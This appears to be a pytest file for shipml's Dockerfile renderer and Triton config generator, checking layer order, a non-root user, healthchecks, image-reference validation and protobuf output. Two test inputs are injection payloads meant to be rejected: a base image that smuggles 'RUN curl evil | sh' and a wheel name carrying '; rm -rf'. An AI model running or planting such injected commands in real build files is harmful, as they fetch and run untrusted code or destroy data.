"""The Dockerfile renderer and the Triton model repository: pure functions, checked against what
the engine and Triton's documented ModelConfig require."""

from __future__ import annotations

from pathlib import Path

import pytest

from shipml.build import dockerfile, triton
from shipml.build.core import triton_context
from shipml.errors import ConfigError

BUILTIN = dockerfile.BuiltinImage(base_image="python:3.11-slim", model_file="model.onnx",
                                  wheel="shipml-0.1.0-py3-none-any.whl", ca_bundle=True)


def _position(text: str, needle: str) -> int:
    assert needle in text, needle
    return text.index(needle)


def test_dependencies_come_before_shipml_and_the_model_last() -> None:
    text = dockerfile.render_builtin(BUILTIN)
    order = [_position(text, "FROM python:3.11-slim"),
             _position(text, "COPY requirements.txt ca-certificates.crt /tmp/shipml-build/"),
             _position(text, "-r /tmp/shipml-build/requirements.txt"),
             _position(text, "COPY shipml-0.1.0-py3-none-any.whl"),
             _position(text, "COPY shipml.yaml"),
             _position(text, "COPY model/ /srv/shipml/model/")]
    assert order == sorted(order)
    instructions = [line.split()[0] for line in text.splitlines() if line and line[0].isupper()]
    # nothing that makes a layer comes after the model
    assert set(instructions[instructions.index("COPY", order.index(order[-1])):][-6:]) <= {
        "COPY", "USER", "ENV", "EXPOSE", "HEALTHCHECK", "ENTRYPOINT"}
    assert "PIP_CERT=/tmp/shipml-build/ca-certificates.crt" in text


def test_the_server_runs_as_a_user_and_is_probed_on_readiness() -> None:
    text = dockerfile.render_builtin(BUILTIN)
    assert "USER 10001:10001" in text
    assert "useradd --system --uid 10001" in text
    healthcheck = next(line for line in text.splitlines() if "/v2/health/ready" in line)
    assert "SHIPML_SERVE_PORT" in healthcheck
    assert 'ENTRYPOINT ["/opt/shipml/bin/python", "-m", "shipml", "serve", "--config", ' \
           '"/srv/shipml/shipml.yaml"]' in text
    assert "ENV SHIPML_SERVE_HOST=0.0.0.0" in text


def test_no_ca_bundle_no_pip_cert() -> None:
    text = dockerfile.render_builtin(dockerfile.BuiltinImage(
        base_image="python:3.11-slim", model_file="model.onnx", wheel="shipml-0.1.0-py3-none-any.whl"))
    assert "PIP_CERT" not in text and "ca-certificates.crt" not in text


def test_a_wheel_of_a_commit_between_tags_is_a_plain_file_name() -> None:
    # setuptools-scm versions a commit after a tag 1.2.1.dev3+g1a2b3c4 (a dirty tree adds .dYYYYMMDD)
    wheel = "shipml-1.2.1.dev3+g1a2b3c4.d20261207-py3-none-any.whl"
    text = dockerfile.render_builtin(dockerfile.BuiltinImage(
        base_image="python:3.11-slim", model_file="model.onnx", wheel=wheel))
    assert f"COPY {wheel} /tmp/shipml-build/" in text
    with pytest.raises(ConfigError, match="is not a plain file name"):
        dockerfile.render_builtin(dockerfile.BuiltinImage(
            base_image="python:3.11-slim", model_file="model.onnx", wheel="a whl; rm -rf"))


@pytest.mark.parametrize("base", ["python:3.11\nRUN curl evil | sh", "Python:3.11", "a b", ""])
def test_a_base_image_that_is_not_a_reference_is_refused(base: str) -> None:
    with pytest.raises(ConfigError) as error:
        dockerfile.render_builtin(dockerfile.BuiltinImage(base_image=base, model_file="m.onnx",
                                                          wheel="w.whl"))
    assert error.value.message.startswith(f"build.base_image: {base!r} is not an image reference")


@pytest.mark.parametrize("base", ["python:3.11-slim", "127.0.0.1:5000/team/base:1.0",
                                  "shipml-test/debian:bookworm",
                                  "ghcr.io/acme/base@sha256:" + "a" * 64])
def test_image_references(base: str) -> None:
    assert dockerfile.check_image_reference(base, "build.base_image") == base


def test_an_index_url_is_a_url() -> None:
    with pytest.raises(ConfigError, match=r"build\.pip_index_url: 'file:///opt/pypi' is not"):
        dockerfile.render_builtin(dockerfile.BuiltinImage(
            base_image="python:3.11-slim", model_file="m.onnx", wheel="w.whl",
            pip_index_url="file:///opt/pypi"))


# --- Triton ------------------------------------------------------------------------------------

TRITON_SECTION = {"triton": {"base_image": "nvcr.io/nvidia/tritonserver:24.08-py3",
                             "max_batch_size": 64, "instances": 2, "kind": "KIND_CPU"}}


def _type(value: int) -> str:
    from tritonclient.grpc import model_config_pb2

    return str(model_config_pb2.DataType.Name(value))


def _model_config(text: str) -> object:
    from google.protobuf import text_format
    from tritonclient.grpc import model_config_pb2

    return text_format.Parse(text, model_config_pb2.ModelConfig())


def test_the_example_becomes_a_triton_repository(example: Path, tmp_path: Path) -> None:
    context = triton_context(TRITON_SECTION, example / "model.onnx", tmp_path)
    assert context.dockerfile.read_text().startswith("# Rendered by `shipml build` (runtime: triton)")
    assert (tmp_path / "model_repository" / "model" / "1" / "model.onnx").read_bytes() == \
        (example / "model.onnx").read_bytes()
    # Triton's own protobuf message parses it: every field name and enum value is Triton's
    config: object = _model_config((tmp_path / "model_repository" / "model" / "config.pbtxt").read_text())
    assert config.name == "model" and config.backend == "onnxruntime"  # type: ignore[attr-defined]
    assert config.max_batch_size == 64  # type: ignore[attr-defined]
    inputs = {item.name: item for item in config.input}  # type: ignore[attr-defined]
    assert len(inputs) == 11
    assert _type(inputs["size_band"].data_type) == "TYPE_STRING"
    assert _type(inputs["mean_radius"].data_type) == "TYPE_FP64"
    assert list(inputs["mean_radius"].dims) == [1]
    outputs = {item.name: item for item in config.output}  # type: ignore[attr-defined]
    # [batch] alone: dims [1] reshaped to [], as Triton's documentation prescribes
    assert list(outputs["label"].dims) == [1] and outputs["label"].HasField("reshape")
    assert list(outputs["label"].reshape.shape) == []
    assert _type(outputs["label"].data_type) == "TYPE_INT64"
    assert list(outputs["probabilities"].dims) == [2] and not outputs["probabilities"].HasField("reshape")
    assert config.instance_group[0].count == 2  # type: ignore[attr-defined]


def test_a_fixed_batch_turns_batching_off(tmp_path: Path) -> None:
    inputs = [triton.Tensor("x", "FLOAT", (4, 3))]
    outputs = [triton.Tensor("y", "FLOAT", (4, None))]
    assert not triton.batchable([*inputs, *outputs])
    text = dockerfile.render_triton_config(dockerfile.TritonConfig(
        name="fixed", source="fixed.onnx", max_batch_size=0,
        inputs=triton.triton_tensors(inputs, False, tmp_path),
        outputs=triton.triton_tensors(outputs, False, tmp_path)))
    config = _model_config(text)
    assert config.max_batch_size == 0  # type: ignore[attr-defined]
    assert list(config.input[0].dims) == [4, 3]  # type: ignore[attr-defined]
    assert list(config.output[0].dims) == [4, -1]  # type: ignore[attr-defined]


def test_names_are_escaped_for_the_text_format() -> None:
    assert triton.pbtxt_string('a"b\\c') == '"a\\"b\\\\c"'
    text = dockerfile.render_triton_config(dockerfile.TritonConfig(
        name="m", source="m.onnx", max_batch_size=8,
        inputs=[triton.TritonTensor('odd "name"', "TYPE_FP32", (3,))], outputs=[]))
    assert _model_config(text).input[0].name == 'odd "name"'  # type: ignore[attr-defined]


def test_a_zipmap_output_is_refused_with_the_fix(binary_case: object, tmp_path: Path) -> None:
    model = binary_case.model  # type: ignore[attr-defined]
    with pytest.raises(ConfigError) as error:
        triton_context(TRITON_SECTION, model, tmp_path)
    assert f"{model}: output 'output_probability' is a sequence, not a tensor" in error.value.message
    assert "options={'zipmap': False}" in error.value.message
